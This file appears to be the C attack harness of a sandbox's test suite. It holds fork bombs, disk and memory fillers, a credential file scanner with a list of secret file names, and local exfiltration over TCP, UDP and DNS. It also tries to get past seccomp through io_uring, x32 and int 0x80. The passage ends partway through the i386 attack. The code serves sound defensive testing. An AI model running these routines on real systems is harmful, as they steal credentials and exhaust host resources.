/* attack: the attack programs of tests/attacks.sh, one subcommand each, and
 * the helpers that run outside the sandbox (listeners, victims, a terminal).
 * Each attack is run twice by the suite: without cordon (the control, which
 * must succeed, so that the suite can fail) and under the agent profile.
 *
 * An attack prints "ok ACTION: ..." and exits 0 when it did what it set out
 * to do, or "blocked ACTION: STEP: ERRNO (text)" and exits 1 when a step
 * failed (2 is a usage error).  When a step fails, some attacks probe why and
 * print "hint: ..." lines: a call that fails the same way on an argument the
 * kernel would reject differently (a pid that cannot exist, /dev/null instead
 * of a terminal) was refused by a filter in front of the kernel (seccomp);
 * a file the process owns and may read by its mode was refused by something
 * other than file permissions (Landlock).  Built static (cc -static), not
 * PIE, so that executing it needs exec permission on the file only and its
 * static data lies below 4 GiB (the i386 attack passes pointers to it).
 *
 * runaway code
 *   forkbomb MAX FILE        fork children (which sleep) until MAX children
 *                            or fork fails; FILE holds the tasks so far
 *   hog PROCS MIB FILE       PROCS processes (1: this one) each touch MIB
 *                            MiB and hold it until all have; FILE holds the
 *                            MiB held so far
 *   spin                     a busy loop that never ends
 *   spin-detached PIDFILE    leaves a busy loop behind in a new session
 *                            (double fork) and exits 0
 *   fill DIR MIB FILES       writes MIB MiB into DIR as FILES files
 *   fill-unlimited FILE MIB  lifts its own RLIMIT_FSIZE, then writes MIB MiB
 *   fill-fallocate DIR MIB FILES  takes MIB MiB of disk in DIR as FILES files
 *                            with fallocate(2), writing nothing
 *   fill-inodes DIR COUNT    makes COUNT empty files in DIR
 * the over-helpful program
 *   env-dump                 prints its environment
 *   read FILE                prints FILE
 *   scan DIR...              walks each DIR for credential files, prints them
 *   parent-environ           prints /proc/PARENT/environ
 *   read-fd N                prints what an inherited descriptor N holds
 * the hijacked program
 *   tcp-send PORT TEXT | udp-send PORT TEXT | dns-send PORT TEXT
 *   unix-send PATH TEXT | abstract-send NAME TEXT
 *   io-uring-udp PORT TEXT   a UDP socket and send made through io_uring
 *   x32-udp PORT TEXT        the same through x32 system call numbers
 *   i386-udp PORT TEXT       the same through int 0x80 (i386 socketcall)
 *   raw-udp PORT TEXT        a UDP datagram built by hand on a raw socket
 *   netlink-links            lists the network interfaces over rtnetlink
 *   packet-sniff SECONDS MARKER   captures traffic with an AF_PACKET socket
 *   kill PID SIG
 *   ptrace-read PID ADDR LEN | vm-read PID ADDR LEN   another process's memory
 *   append FILE TEXT         appends a line (shell rc files, .git/config)
 *   replace FILE TEXT        removes FILE and creates it anew with TEXT
 *   hook FILE TEXT           writes an executable script (git hooks)
 *   hooks-swap GITDIR TEXT   moves GITDIR/hooks away and makes a new one
 *   plant-gitdir GITDIR NAME TEXT   makes GITDIR/modules/NAME/hooks with a
 *                            post-checkout hook (a submodule's git dir,
 *                            ahead of its initialisation)
 *   gitdir-swap WS TEXT      moves WS/.git away, points WS/.git at it
 *   config-launder CONFIG TMP TEXT   renames CONFIG to TMP, appends, back
 *   tiocsti TEXT             pushes TEXT and a newline into its terminal
 *   symlink-read TARGET LINK | link-read TARGET LINK | rename-read FROM TO
 *   cgroup-escape PROCS      writes itself into the cgroup.procs file PROCS
 * helpers, outside the sandbox
 *   listen tcp|udp|unix|abstract ADDR LOG READY   appends what arrives to
 *       LOG, one line per connection or datagram (bytes outside printable
 *       ASCII as \xNN); READY gets the port (or "ready") once it listens
 *   victim SECRET PIDFILE    holds SECRET in memory and sleeps; PIDFILE gets
 *                            "PID ADDRESS LENGTH"
 *   pty-host LOG CMD [ARG]...  runs CMD on a new terminal of which it is the
 *       controlling process (a user's shell session), relays its output,
 *       and appends to LOG what was left in the terminal's input queue,
 *       which the user's shell would read next */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/if_ether.h>
#include <linux/io_uring.h>
#include <linux/netlink.h>
#include <linux/rtnetlink.h>
#include <netinet/in.h>
#include <poll.h>
#include <signal.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/ptrace.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <termios.h>
#include <time.h>
#include <unistd.h>

#include "../probe_common.h"

extern char **environ;

#define MIB (1024L * 1024L)
/* a pid no process can have (pid_max is at most 4194304) */
#define NO_PID 0x3fffffff

static const char *action = "";

static int usage(void)
{
	fprintf(stderr, "attack: usage error (see the top of tests/attacks/attack.c)\n");
	return 2;
}

static int ok(const char *fmt, ...)
{
	va_list ap;
	printf("ok %s: ", action);
	va_start(ap, fmt);
	vprintf(fmt, ap);
	va_end(ap);
	putchar('\n');
	return 0;
}

static const char *ename(int e)
{
	const char *n = strerrorname_np(e);
	return n ? n : "?";
}

/* STEP failed with errno e */
static int blocked(const char *step, int e)
{
	printf("blocked %s: %s: %s (%s)\n", action, step, ename(e), strerror(e));
	return 1;
}

static void hint(const char *fmt, ...)
{
	va_list ap;
	printf("hint: ");
	va_start(ap, fmt);
	vprintf(fmt, ap);
	va_end(ap);
	putchar('\n');
}

static int write_all(int fd, const void *p, size_t len)
{
	const char *s = p;
	while (len) {
		ssize_t n = write(fd, s, len);
		if (n < 0 && errno == EINTR)
			continue;
		if (n <= 0)
			return -1;
		s += n;
		len -= (size_t)n;
	}
	return 0;
}

/* FILE := TEXT, atomically (a temporary file renamed over it) */
/* FILE := the number N (rewritten in place; survives a SIGKILL) */
static void put_count(int fd, long n)
{
	char buf[32];
	int len = snprintf(buf, sizeof buf, "%ld\n", n);
	if (fd >= 0 && pwrite(fd, buf, (size_t)len, 0) == len)
		(void)ftruncate(fd, len);
}

/* s escaped: printable ASCII as is, the rest as \xNN */
static void escape(char *out, size_t cap, const unsigned char *s, size_t n)
{
	size_t o = 0;
	for (size_t i = 0; i < n && o + 5 < cap; i++) {
		if (s[i] >= 0x20 && s[i] < 0x7f && s[i] != '\\')
			out[o++] = (char)s[i];
		else
			o += (size_t)snprintf(out + o, cap - o, "\\x%02x", s[i]);
	}
	out[o] = '\0';
}

static void now(struct timespec *t)
{
	clock_gettime(CLOCK_MONOTONIC, t);
}

static long ms_since(const struct timespec *t0)
{
	struct timespec t;
	now(&t);
	return (t.tv_sec - t0->tv_sec) * 1000 + (t.tv_nsec - t0->tv_nsec) / 1000000;
}

/* Why was a file operation on PATH refused with EACCES or EPERM?  When this
 * process owns PATH (or, for a creation, its directory) and the mode grants
 * the owner the access, file permissions did not refuse it.  (cordon drops
 * every capability, so root is an ordinary owner here.) */
static void why_file(const char *path, int e, int want_write)
{
	if (e != EACCES && e != EPERM)
		return;
	struct stat st;
	char dir[4096];
	const char *p = path;
	if (stat(path, &st) < 0) {
		snprintf(dir, sizeof dir, "%s", path);
		char *slash = strrchr(dir, '/');
		if (slash == dir)
			slash[1] = '\0';
		else if (slash)
			*slash = '\0';
		else
			snprintf(dir, sizeof dir, ".");
		p = dir;
		want_write = 1;
		if (stat(dir, &st) < 0)
			return;
	}
	mode_t need = want_write ? S_IWUSR : S_IRUSR;
	if (st.st_uid == geteuid() && (st.st_mode & need))
		hint("file permissions allow it: %s is owned by uid %u, mode %04o, so a "
		     "sandbox layer (Landlock) refused it",
		     p, (unsigned)st.st_uid, (unsigned)(st.st_mode & 07777));
	else
		hint("%s is owned by uid %u, mode %04o (this process: uid %u)", p,
		     (unsigned)st.st_uid, (unsigned)(st.st_mode & 07777), (unsigned)geteuid());
}

/* ---- runaway code ------------------------------------------------------ */

static int do_forkbomb(const char *smax, const char *file)
{
	long max;
	if (probe_number(smax, 0, &max) < 0 || max < 1 || max > 100000)
		return usage();
	int fd = open(file, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0644);
	if (fd < 0)
		return blocked("open the count file", errno);
	pid_t *kids = calloc((size_t)max, sizeof *kids);
	if (!kids)
		return blocked("calloc", errno);
	long n = 0;
	int e = 0;
	put_count(fd, 1);
	fflush(stdout);
	while (n < max) {
		pid_t p = fork();
		if (p < 0) {
			e = errno;
			break;
		}
		if (p == 0) {
			for (;;)
				pause();
		}
		kids[n++] = p;
		put_count(fd, n + 1);
	}
	for (long i = 0; i < n; i++)
		kill(kids[i], SIGKILL);
	for (long i = 0; i < n; i++)
		waitpid(kids[i], NULL, 0);
	if (n < max) {
		char step[64];
		snprintf(step, sizeof step, "fork (with %ld tasks running)", n + 1);
		return blocked(step, e);
	}
	return ok("%ld children, %ld tasks at most", n, n + 1);
}

/* touches MIB MiB, 1 MiB at a time, adding each to *held; 0 or an errno */
static int touch_mib(long mib, volatile long *held, int count_fd)
{
	for (long i = 0; i < mib; i++) {
		char *p = mmap(NULL, MIB, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
		if (p == MAP_FAILED)
			return errno;
		for (long off = 0; off < MIB; off += 4096)
			p[off] = 1;
		__atomic_add_fetch(held, 1, __ATOMIC_SEQ_CST);
		if (count_fd >= 0)
			put_count(count_fd, *held);
	}
	return 0;
}

static int do_hog(const char *sprocs, const char *smib, const char *file)
{
	long procs, mib;
	if (probe_number(sprocs, 0, &procs) < 0 || procs < 1 || procs > 64 || probe_number(smib, 0, &mib) < 0 ||
	    mib < 1 || mib > 65536)
		return usage();
	int fd = open(file, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0644);
	if (fd < 0)
		return blocked("open the count file", errno);
	put_count(fd, 0);
	if (procs == 1) {
		long held = 0;
		int e = touch_mib(mib, &held, fd);
		if (e) {
			char step[64];
			snprintf(step, sizeof step, "mmap (holding %ld MiB)", held);
			return blocked(step, e);
		}
		return ok("1 process holds %ld MiB", held);
	}
	/* a counter per child, shared; -errno when its mmap failed */
	volatile long *held = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
	if (held == MAP_FAILED)
		return blocked("mmap", errno);
	pid_t kids[64];
	long started = 0;
	fflush(stdout);
	for (; started < procs; started++) {
		pid_t p = fork();
		if (p < 0)
			break;
		if (p == 0) {
			int e = touch_mib(mib, &held[started], -1);
			if (e) {
				held[32 + started] = e;
				_exit(1);
			}
			for (;;)
				pause();
		}
		kids[started] = p;
	}
	int fork_errno = started < procs ? errno : 0;
	struct timespec t0;
	now(&t0);
	char why[160] = "";
	long total = 0, most = 0;
	while (!*why) {
		/* (a child that died still counts until waitpid says so: "most"
		 * may be a few MiB more than was ever held at once) */
		total = 0;
		int done = 1;
		for (long i = 0; i < started; i++) {
			total += held[i];
			if (held[i] < mib)
				done = 0;
		}
		if (total > most)
			most = total;
		put_count(fd, most);
		if (fork_errno) {
			snprintf(why, sizeof why, "fork (child %ld): %s", started, ename(fork_errno));
			break;
		}
		if (done)
			break;
		int st;
		pid_t p = waitpid(-1, &st, WNOHANG);
		if (p > 0) {
			long i = 0;
			while (i < started && kids[i] != p)
				i++;
			if (i < started)
				kids[i] = 0;
			if (WIFSIGNALED(st))
				snprintf(why, sizeof why, "child %ld killed by signal %d", i, WTERMSIG(st));
			else if (i < started && held[32 + i])
				snprintf(why, sizeof why, "child %ld: mmap: %s", i, ename((int)held[32 + i]));
			else
				snprintf(why, sizeof why, "child %ld exited %d", i, WEXITSTATUS(st));
			break;
		}
		if (ms_since(&t0) > 60000) {
			snprintf(why, sizeof why, "still short of %ld MiB after 60 s", procs * mib);
			break;
		}
		usleep(5000);
	}
	for (long i = 0; i < started; i++)
		if (kids[i] > 0)
			kill(kids[i], SIGKILL);
	while (waitpid(-1, NULL, 0) > 0)
		;
	if (*why) {
		printf("blocked %s: %s; %ld processes had touched about %ld MiB together\n", action,
		       why, started, most);
		return 1;
	}
	return ok("%ld processes hold %ld MiB each, %ld MiB at once", procs, mib, total);
}

static __attribute__((noreturn)) void spin(void)
{
	volatile unsigned long n = 0;
	for (;;)
		n++;
}

static int do_spin_detached(const char *pidfile)
{
	if (session_grandchild(pidfile, 0, 1) < 0)
		return blocked("the detaching child", errno);
	for (int i = 0; i < 500 && access(pidfile, F_OK) < 0; i++)
		usleep(10000);
	FILE *f = fopen(pidfile, "re");
	int pid = 0;
	if (!f || fscanf(f, "%d", &pid) != 1)
		return blocked("the spinner's pid file", f ? EIO : errno);
	fclose(f);
	return ok("left pid %d spinning in its own session", pid);
}

static int do_fill(const char *dir, const char *smib, const char *sfiles)
{
	long mib, files;
	if (probe_number(smib, 0, &mib) < 0 || mib < 1 || mib > 4096 || probe_number(sfiles, 0, &files) < 0 ||
	    files < 1 || files > mib)
		return usage();
	static char buf[MIB];
	memset(buf, 'x', sizeof buf);
	long per = mib / files, written = 0;
	fflush(stdout);
	for (long f = 0; f < files; f++) {
		char path[4096];
		snprintf(path, sizeof path, "%s/fill-%ld", dir, f);
		int fd = open(path, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0644);
		if (fd < 0)
			return blocked("open", errno);
		for (long i = 0; i < per; i++) {
			if (write_all(fd, buf, sizeof buf) < 0) {
				char step[96];
				snprintf(step, sizeof step, "write (after %ld MiB)", written);
				return blocked(step, errno);
			}
			written++;
		}
		close(fd);
	}
	return ok("wrote %ld MiB in %ld files", written, files);
}

static int do_fill_fallocate(const char *dir, const char *smib, const char *sfiles)
{
	long mib, files;
	if (probe_number(smib, 0, &mib) < 0 || mib < 1 || mib > 65536 || probe_number(sfiles, 0, &files) < 0 ||
	    files < 1 || files > mib)
		return usage();
	long per = mib / files, taken = 0;
	for (long f = 0; f < files; f++) {
		char path[4096];
		snprintf(path, sizeof path, "%s/falloc-%ld", dir, f);
		int fd = open(path, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0644);
		if (fd < 0)
			return blocked("open", errno);
		if (fallocate(fd, 0, 0, (off_t)per * MIB) != 0) {
			char step[96];
			snprintf(step, sizeof step, "fallocate (after %ld MiB)", taken);
			return blocked(step, errno);
		}
		taken += per;
		close(fd);
	}
	return ok("took %ld MiB in %ld files", taken, files);
}

static int do_fill_inodes(const char *dir, const char *scount)
{
	long count;
	if (probe_number(scount, 0, &count) < 0 || count < 1 || count > 10000000)
		return usage();
	for (long i = 0; i < count; i++) {
		char path[4096];
		snprintf(path, sizeof path, "%s/empty-%ld", dir, i);
		int fd = open(path, O_WRONLY | O_CREAT | O_EXCL | O_CLOEXEC, 0644);
		if (fd < 0) {
			char step[96];
			snprintf(step, sizeof step, "open (after %ld files)", i);
			return blocked(step, errno);
		}
		close(fd);
	}
	return ok("made %ld empty files", count);
}

static int do_fill_unlimited(const char *file, const char *smib)
{
	long mib;
	if (probe_number(smib, 0, &mib) < 0 || mib < 1 || mib > 4096)
		return usage();
	struct rlimit r = {RLIM_INFINITY, RLIM_INFINITY}, old;
	getrlimit(RLIMIT_FSIZE, &old);
	if (setrlimit(RLIMIT_FSIZE, &r) < 0) {
		int e = errno;
		if (old.rlim_max != RLIM_INFINITY)
			hint("RLIMIT_FSIZE is %llu (hard %llu); raising a hard limit needs "
			     "CAP_SYS_RESOURCE",
			     (unsigned long long)old.rlim_cur, (unsigned long long)old.rlim_max);
		FILE *f = fopen("/proc/self/status", "re");
		char line[256];
		while (f && fgets(line, sizeof line, f))
			if (strncmp(line, "CapEff:", 7) == 0) {
				line[strcspn(line, "\n")] = '\0';
				hint("effective capabilities: %s", line + 8 + strspn(line + 8, " \t"));
			}
		if (f)
			fclose(f);
		return blocked("setrlimit(RLIMIT_FSIZE, unlimited)", e);
	}
	static char buf[MIB];
	memset(buf, 'y', sizeof buf);
	int fd = open(file, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0644);
	if (fd < 0)
		return blocked("open", errno);
	for (long i = 0; i < mib; i++)
		if (write_all(fd, buf, sizeof buf) < 0)
			return blocked("write", errno);
	close(fd);
	return ok("RLIMIT_FSIZE lifted, wrote %ld MiB", mib);
}

/* ---- the over-helpful program ----------------------------------------- */

static int do_env_dump(void)
{
	int n = 0;
	for (char **e = environ; *e; e++, n++)
		printf("env: %s\n", *e);
	return ok("%d variables", n);
}

/* prints the content of fd, line by line, prefixed */
static int print_fd(int fd, const char *prefix, char sep)
{
	static char buf[65536];
	size_t len = 0;
	ssize_t n;
	while (len < sizeof buf - 1 && (n = read(fd, buf + len, sizeof buf - 1 - len)) > 0)
		len += (size_t)n;
	if (n < 0 && len == 0)
		return -1;
	buf[len] = '\0';
	char *s = buf;
	while (s < buf + len) {
		char *end = memchr(s, sep, (size_t)(buf + len - s));
		if (!end)
			end = buf + len;
		*end = '\0';
		printf("%s%s\n", prefix, s);
		s = end + 1;
	}
	return 0;
}

static int do_read(const char *path)
{
	int fd = open(path, O_RDONLY | O_CLOEXEC);
	if (fd < 0) {
		int e = errno;
		why_file(path, e, 0);
		return blocked("open", e);
	}
	if (print_fd(fd, "| ", '\n') < 0)
		return blocked("read", errno);
	close(fd);
	return ok("read %s", path);
}

static int cred_name(const char *n)
{
	static const char *names[] = {"credentials", "id_rsa", "id_ed25519", "id_ecdsa", ".netrc",
				      ".pgpass", ".git-credentials", "hosts.yml", "config.json",
				      ".npmrc", ".pypirc", ".env", ".bash_history", NULL};
	for (int i = 0; names[i]; i++)
		if (strcmp(n, names[i]) == 0)
			return 1;
	size_t l = strlen(n);
	return l > 4 && strcmp(n + l - 4, ".pem") == 0;
}

static int scan_found, scan_errno;
static char scan_err_step[4200];

static void scan_note_error(const char *what, const char *path, int e)
{
	if (!scan_errno) {
		scan_errno = e;
		snprintf(scan_err_step, sizeof scan_err_step, "%s %s", what, path);
		why_file(path, e, 0);
	}
}

static void scan_file(const char *path)
{
	int fd = open(path, O_RDONLY | O_CLOEXEC);
	if (fd < 0) {
		if (errno != ENOENT)
			scan_note_error("open", path, errno);
		return;
	}
	char prefix[4200];
	snprintf(prefix, sizeof prefix, "found %s: ", path);
	if (print_fd(fd, prefix, '\n') == 0)
		scan_found++;
	close(fd);
}

static void scan_dir(const char *dir, int depth)
{
	DIR *d = opendir(dir);
	if (!d) {
		scan_note_error("opendir", dir, errno);
		return;
	}
	struct dirent *e;
	while ((e = readdir(d))) {
		if (strcmp(e->d_name, ".") == 0 || strcmp(e->d_name, "..") == 0)
			continue;
		char path[4096];
		snprintf(path, sizeof path, "%s/%s", dir, e->d_name);
		struct stat st;
		if (lstat(path, &st) < 0)
			continue;
		if (S_ISDIR(st.st_mode) && depth < 8)
			scan_dir(path, depth + 1);
		else if (S_ISREG(st.st_mode) && cred_name(e->d_name))
			scan_file(path);
	}
	closedir(d);
}

static int do_scan(int n, char **dirs)
{
	static const char *guesses[] = {".ssh/id_rsa", ".aws/credentials", ".netrc",
					".config/gh/hosts.yml", ".docker/config.json", NULL};
	for (int i = 0; i < n; i++) {
		int before = scan_found;
		scan_dir(dirs[i], 0);
		if (scan_found > before)
			continue;
		/* could not list it: try the well-known names */
		for (int g = 0; guesses[g]; g++) {
			char path[4096];
			snprintf(path, sizeof path, "%s/%s", dirs[i], guesses[g]);
			scan_file(path);
		}
	}
	if (!scan_found)
		return blocked(*scan_err_step ? scan_err_step : "scan", scan_errno ? scan_errno : ENOENT);
	return ok("%d credential files", scan_found);
}

static int do_parent_environ(void)
{
	char path[64];
	snprintf(path, sizeof path, "/proc/%d/environ", (int)getppid());
	int fd = open(path, O_RDONLY | O_CLOEXEC);
	if (fd < 0) {
		int e = errno;
		why_file(path, e, 0);
		return blocked(path, e);
	}
	if (print_fd(fd, "parent env: ", '\0') < 0) {
		int e = errno;
		close(fd);
		return blocked("read", e);
	}
	close(fd);
	return ok("read %s", path);
}

static int do_read_fd(const char *s)
{
	long fd;
	if (probe_number(s, 0, &fd) < 0 || fd < 0 || fd > 1 << 20)
		return usage();
	if (fcntl((int)fd, F_GETFD) < 0)
		return blocked("fcntl(F_GETFD)", errno);
	lseek((int)fd, 0, SEEK_SET);
	if (print_fd((int)fd, "| ", '\n') < 0)
		return blocked("read", errno);
	return ok("read fd %ld", fd);
}

/* ---- the hijacked program: network ------------------------------------- */



/* socket() failed: which layer?  seccomp's socket filter answers EACCES
 * (docs/language.md); the kernel itself answers EPERM or EAFNOSUPPORT etc. */
static int socket_blocked(const char *step, int e)
{
	if (e == EACCES)
		hint("socket() itself refused with EACCES: the kernel never answers "
		     "socket() so; cordon's seccomp socket filter does");
	return blocked(step, e);
}

static int do_tcp_send(const char *sport, const char *text)
{
	struct sockaddr_in a;
	if (port_addr(sport, &a) < 0)
		return usage();
	int fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
	if (fd < 0)
		return socket_blocked("socket(AF_INET, SOCK_STREAM)", errno);
	if (connect(fd, (struct sockaddr *)&a, sizeof a) < 0)
		return blocked("connect", errno);
	if (write_all(fd, text, strlen(text)) < 0)
		return blocked("send", errno);
	close(fd);
	return ok("sent %zu bytes to 127.0.0.1:%s", strlen(text), sport);
}

static int send_udp(int fd, const struct sockaddr_in *a, const void *p, size_t n)
{
	return sendto(fd, p, n, 0, (const struct sockaddr *)a, sizeof *a) == (ssize_t)n ? 0 : -1;
}

static int do_udp_send(const char *sport, const char *text)
{
	struct sockaddr_in a;
	if (port_addr(sport, &a) < 0)
		return usage();
	int fd = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
	if (fd < 0)
		return socket_blocked("socket(AF_INET, SOCK_DGRAM)", errno);
	if (send_udp(fd, &a, text, strlen(text)) < 0)
		return blocked("sendto", errno);
	close(fd);
	return ok("sent %zu bytes to 127.0.0.1:%s/udp", strlen(text), sport);
}

/* A DNS query for the A record of <TEXT in hex>.x.example.com: the way data
 * leaves through a resolver when nothing else is open. */
static int do_dns_send(const char *sport, const char *text)
{
	struct sockaddr_in a;
	if (port_addr(sport, &a) < 0)
		return usage();
	unsigned char q[512];
	size_t n = 0;
	static const unsigned char head[12] = {0x13, 0x37, 0x01, 0x00, 0, 1, 0, 0, 0, 0, 0, 0};
	memcpy(q, head, sizeof head);
	n = sizeof head;
	char hex[128];
	size_t tl = strlen(text);
	if (tl > 31)
		tl = 31; /* one label: at most 63 characters */
	for (size_t i = 0; i < tl; i++)
		snprintf(hex + 2 * i, 3, "%02x", (unsigned char)text[i]);
	const char *labels[] = {hex, "x", "example", "com"};
	for (int i = 0; i < 4; i++) {
		size_t l = strlen(labels[i]);
		q[n++] = (unsigned char)l;
		memcpy(q + n, labels[i], l);
		n += l;
	}
	q[n++] = 0;
	q[n++] = 0, q[n++] = 1; /* type A */
	q[n++] = 0, q[n++] = 1; /* class IN */
	int fd = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
	if (fd < 0)
		return socket_blocked("socket(AF_INET, SOCK_DGRAM)", errno);
	if (send_udp(fd, &a, q, n) < 0)
		return blocked("sendto", errno);
	close(fd);
	return ok("sent a DNS query for %s.x.example.com to 127.0.0.1:%s/udp", hex, sport);
}

static int do_unix_send(const char *addr, int abstract, const char *text)
{
	struct sockaddr_un a;
	socklen_t len = unix_addr(addr, abstract, &a);
	if (!len)
		return usage();
	int fd = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
	if (fd < 0)
		return socket_blocked("socket(AF_UNIX, SOCK_STREAM)", errno);
	if (connect(fd, (struct sockaddr *)&a, len) < 0)
		return blocked("connect", errno);
	if (write_all(fd, text, strlen(text)) < 0)
		return blocked("send", errno);
	close(fd);
	return ok("sent %zu bytes to %s%s", strlen(text), abstract ? "@" : "", addr);
}

/* -- io_uring, without liburing: one submission at a time */
struct ring {
	int fd;
	unsigned *sq_tail, *sq_mask, *sq_array, *cq_head, *cq_tail, *cq_mask;
	struct io_uring_sqe *sqes;
	struct io_uring_cqe *cqes;
};

static int ring_setup(struct ring *r)
{
	struct io_uring_params p;
	memset(&p, 0, sizeof p);
	r->fd = (int)syscall(SYS_io_uring_setup, 4U, &p);
	if (r->fd < 0)
		return -1;
	size_t sq_sz = p.sq_off.array + p.sq_entries * sizeof(unsigned);
	size_t cq_sz = p.cq_off.cqes + p.cq_entries * sizeof(struct io_uring_cqe);
	if (p.features & IORING_FEAT_SINGLE_MMAP)
		sq_sz = cq_sz = sq_sz > cq_sz ? sq_sz : cq_sz;
	char *sq = mmap(NULL, sq_sz, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, r->fd,
			IORING_OFF_SQ_RING);
	if (sq == MAP_FAILED)
		return -1;
	char *cq = sq;
	if (!(p.features & IORING_FEAT_SINGLE_MMAP)) {
		cq = mmap(NULL, cq_sz, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, r->fd,
			  IORING_OFF_CQ_RING);
		if (cq == MAP_FAILED)
			return -1;
	}
	r->sqes = mmap(NULL, p.sq_entries * sizeof(struct io_uring_sqe), PROT_READ | PROT_WRITE,
		       MAP_SHARED | MAP_POPULATE, r->fd, IORING_OFF_SQES);
	if (r->sqes == MAP_FAILED)
		return -1;
	r->sq_tail = (unsigned *)(sq + p.sq_off.tail);
	r->sq_mask = (unsigned *)(sq + p.sq_off.ring_mask);
	r->sq_array = (unsigned *)(sq + p.sq_off.array);
	r->cq_head = (unsigned *)(cq + p.cq_off.head);
	r->cq_tail = (unsigned *)(cq + p.cq_off.tail);
	r->cq_mask = (unsigned *)(cq + p.cq_off.ring_mask);
	r->cqes = (struct io_uring_cqe *)(cq + p.cq_off.cqes);
	return 0;
}

/* submits one request and returns its result (a -errno on failure) */
static int ring_do(struct ring *r, const struct io_uring_sqe *sqe)
{
	unsigned tail = *r->sq_tail, idx = tail & *r->sq_mask;
	r->sqes[idx] = *sqe;
	r->sq_array[idx] = idx;
	__atomic_store_n(r->sq_tail, tail + 1, __ATOMIC_RELEASE);
	if (syscall(SYS_io_uring_enter, r->fd, 1U, 1U, IORING_ENTER_GETEVENTS, NULL, 0UL) < 0)
		return -errno;
	unsigned head = *r->cq_head;
	if (head == __atomic_load_n(r->cq_tail, __ATOMIC_ACQUIRE))
		return -EAGAIN;
	int res = r->cqes[head & *r->cq_mask].res;
	__atomic_store_n(r->cq_head, head + 1, __ATOMIC_RELEASE);
	return res;
}

static int do_io_uring_udp(const char *sport, const char *text)
{
	struct sockaddr_in a;
	if (port_addr(sport, &a) < 0)
		return usage();
	struct ring r;
	if (ring_setup(&r) < 0) {
		int e = errno;
		if (e == EPERM) {
			errno = 0;
			long x = syscall(SYS_io_uring_setup, 0U, NULL);
			if (x < 0 && errno == EPERM)
				hint("io_uring_setup(0, NULL) fails with EPERM too (the kernel says "
				     "EFAULT or EINVAL): refused before the kernel, by seccomp");
		}
		return blocked("io_uring_setup", e);
	}
	struct io_uring_sqe sqe;
	memset(&sqe, 0, sizeof sqe);
	sqe.opcode = IORING_OP_SOCKET;
	sqe.fd = AF_INET;
	sqe.off = SOCK_DGRAM;
	int s = ring_do(&r, &sqe);
	if (s < 0)
		return blocked("IORING_OP_SOCKET", -s);
	struct iovec iov = {(void *)text, strlen(text)};
	struct msghdr m;
	memset(&m, 0, sizeof m);
	m.msg_name = &a;
	m.msg_namelen = sizeof a;
	m.msg_iov = &iov;
	m.msg_iovlen = 1;
	memset(&sqe, 0, sizeof sqe);
	sqe.opcode = IORING_OP_SENDMSG;
	sqe.fd = s;
	sqe.addr = (uint64_t)(uintptr_t)&m;
	sqe.len = 1;
	int sent = ring_do(&r, &sqe);
	if (sent < 0)
		return blocked("IORING_OP_SENDMSG", -sent);
	return ok("socket() and sendmsg() through io_uring: %d bytes to 127.0.0.1:%s/udp", sent,
		  sport);
}

/* x32: the x86_64 entry with bit 30 set in the number selects the x32 table */
#define X32 0x40000000L
static int do_x32_udp(const char *sport, const char *text)
{
	struct sockaddr_in a;
	if (port_addr(sport, &a) < 0)
		return usage();
	fflush(stdout);
	long fd = syscall(X32 | SYS_socket, AF_INET, SOCK_DGRAM, 0);
	if (fd < 0) {
		int e = errno;
		if (e == ENOSYS)
			hint("this kernel has no x32 ABI (CONFIG_X86_X32_ABI): nothing to dodge with");
		return blocked("x32 socket", e);
	}
	long n = syscall(X32 | SYS_sendto, fd, text, strlen(text), 0, &a, sizeof a);
	if (n < 0)
		return blocked("x32 sendto", errno);
	return ok("x32 socket() and sendto(): %ld bytes to 127.0.0.1:%s/udp", n, sport);
}

/* i386: int 0x80 selects the 32-bit table; socketcall(2) takes its
 * arguments as 32-bit words in memory, which must lie below 4 GiB (static
 * data of this non-PIE program does) */
static unsigned int i386_args[6];
static struct sockaddr_in i386_addr;
static char i386_text[256];

static long int80(long nr, long a, long b)
{
	long r;
	__asm__ volatile("int $0x80" : "=a"(r) : "a"(nr), "b"(a), "c"(b) : "memory");
	return (int)r;
}

static int do_i386_udp(const char *sport, const char *text)
{
	if (port_addr(sport, &i386_addr) < 0)
		return usage();
	if ((uintptr_t)i386_args > 0xffffffffUL) {
		fprintf(stderr, "attack: i386-udp needs a non-PIE build (cc -static)\n");
		return 2;
	}
	snprintf(i386_text, sizeof i386_text, "%s", text);
	fflush(stdout);
	i386_args[0] = AF_INET, i386_args[1] = SOCK_DGRAM, i386_args[2] = 0;
	long fd = int80(102 /* socketcall */, 1 /* SYS_SOCKET */, (long)(uintptr_t)i386_args);
	if (fd < 0) {
		if (fd == -ENOSYS)
			hint("this kernel runs no i386 programs (ia32_emulation off)");
		return blocked("int 0x80 socketcall(SYS_SOCKET)", (int)-fd);
	}
	i386_args[0] = (unsigned)fd;
	i386_args[1] = (unsigned)(uintptr_t)i386_text;
	i386_args[2] = (unsigned)strlen(i386_text);
	i386_args[3] = 0;
	i386_args[4] = (unsigned)(uintptr_t)&i386_addr;
	i386_args[5] = sizeof i386_addr;
	long n = int80(102, 11 /* SYS_SENDTO */, (long)(uintptr_t)i386_args);
	if (n < 0)
		return blocked("int 0x80 socketcall(SYS_SENDTO)", (int)-n);
